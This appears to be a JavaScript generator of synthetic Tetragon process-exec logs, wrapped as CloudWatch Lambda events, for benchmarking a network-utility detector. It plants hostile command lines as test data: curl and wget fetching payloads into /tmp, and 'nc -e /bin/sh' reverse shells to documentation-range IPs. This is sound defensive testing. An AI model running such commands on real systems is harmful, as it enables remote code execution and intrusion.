// Writes the benchmark's input: BATCHES Lambda events of EVENTS Tetragon-like process_exec lines,
// about 1 in 200 a network utility launched from /tmp, the rest ordinary container processes.
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

const ORDINARY = [
  ["/usr/local/bin/node", "server.js --port 8080"],
  ["/bin/sh", "-c /app/healthcheck.sh"],
  ["/usr/bin/python3.12", "-m gunicorn app:wsgi -w 4"],
  ["/bin/ls", "-la /var/lib/app"],
  ["/usr/bin/find", "/var/cache -mtime +7 -delete"],
  ["/bin/cat", "/etc/resolv.conf"],
  ["/usr/sbin/nginx", "-g daemon off;"],
  ["/usr/bin/java", "-Xmx512m -jar /app/service.jar"],
];
const UTILITIES = [
  ["/tmp/.x/curl", "-fsSL http://203.0.113.7/payload -o /tmp/.x/p"],
  ["/usr/bin/wget", "-q http://198.51.100.4/a.sh -O /tmp/a.sh"],
  ["/tmp/nc", "-e /bin/sh 198.51.100.23 4444"],
];

function line(i, binary, args, parent) {
  return JSON.stringify({
    process_exec: {
      process: {
        exec_id: Buffer.from(`ip-10-0-12-34:${1_000_000 + i}:${i}`).toString("base64"),
        pid: 20_000 + (i % 40_000),
        uid: 1000,
        cwd: "/app",
        binary,
        arguments: args,
        flags: "execve clone",
        start_time: "2026-11-28T10:15:02.118273645Z",
        auid: 4294967295,
        pod: {
          namespace: "payments",
          name: `checkout-api-7d9f6c5b8-${(i % 97).toString(36).padStart(5, "x")}`,
          container: {
            id: "containerd://6f1c2e0b9a8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b",
            name: "checkout-api",
            image: {
              id: "sha256:3b1f0c9e7d2a",
              name: "123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout-api:1.42.0",
            },
            start_time: "2026-11-28T08:12:44Z",
            pid: 1,
          },
          pod_labels: { app: "checkout-api" },
          workload: "checkout-api",
          workload_kind: "Deployment",
        },
        docker: "6f1c2e0b9a8d7c6b5a4f3e2d1c0b9a8",
        parent_exec_id: Buffer.from(`ip-10-0-12-34:${999_000 + i}`).toString("base64"),
        tid: 20_000 + (i % 40_000),
      },
      parent: { binary: parent, arguments: "", pid: 19_000, cwd: "/app", flags: "execve" },
    },
    node_name: "ip-10-0-12-34.ec2.internal",
    time: new Date(Date.UTC(2026, 10, 28, 10) + i).toISOString(),
  });
}

/** Writes one Lambda event as CloudWatch Logs delivers it; returns its path. */
function writeEvent(file, logStream, logEvents) {
  const payload = {
    messageType: "DATA_MESSAGE",
    owner: "123456789012",
    logGroup: "/aws/containerinsights/prod-eks/application",
    logStream,
    subscriptionFilters: ["netutil-detector"],
    logEvents,
  };
  writeFileSync(
    file,
    JSON.stringify({ awslogs: { data: gzipSync(JSON.stringify(payload)).toString("base64") } }),
  );
  return file;
}

/** Writes the files and returns their paths. */
export function generate(dir, batches = 10, events = 5000) {
  mkdirSync(dir, { recursive: true });
  const files = [];
  let utilities = 0;
  for (let b = 0; b < batches; b++) {
    const logEvents = [];
    for (let e = 0; e < events; e++) {
      const i = b * events + e;
      const isUtility = i % 200 === 17;
      const [binary, args] = isUtility ? UTILITIES[i % UTILITIES.length] : ORDINARY[i % ORDINARY.length];
      if (isUtility) utilities++;
      logEvents.push({
        id: String(38_000_000_000_000_000_000_000_000_000_000_000_000_000_000n + BigInt(i)),
        timestamp: Date.UTC(2026, 10, 28, 10) + i,
        message: line(i, binary, args, isUtility ? "/tmp/.x/loader" : "/usr/bin/tini"),
      });
    }
    files.push(writeEvent(join(dir, `batch-${b}.json`), `tetragon-bench-${b}`, logEvents));
  }
  return { files, utilities };
}

/** One busy batch: `signals` distinct reverse shells (distinct targets), so nothing aggregates. */
export function generateBusy(dir, signals = 250) {
  mkdirSync(dir, { recursive: true });
  const logEvents = [];
  for (let i = 0; i < signals; i++) {
    logEvents.push({
      id: String(39_000_000_000_000_000_000_000_000_000_000_000_000_000_000n + BigInt(i)),
      timestamp: Date.UTC(2026, 10, 28, 11) + i,
      message: line(i, "/tmp/nc", `-e /bin/sh 198.51.${100 + (i >> 8)}.${i & 255} 4444`, "/tmp/.x/loader"),
    });
  }
  return writeEvent(join(dir, "busy.json"), "tetragon-bench-busy", logEvents);
}
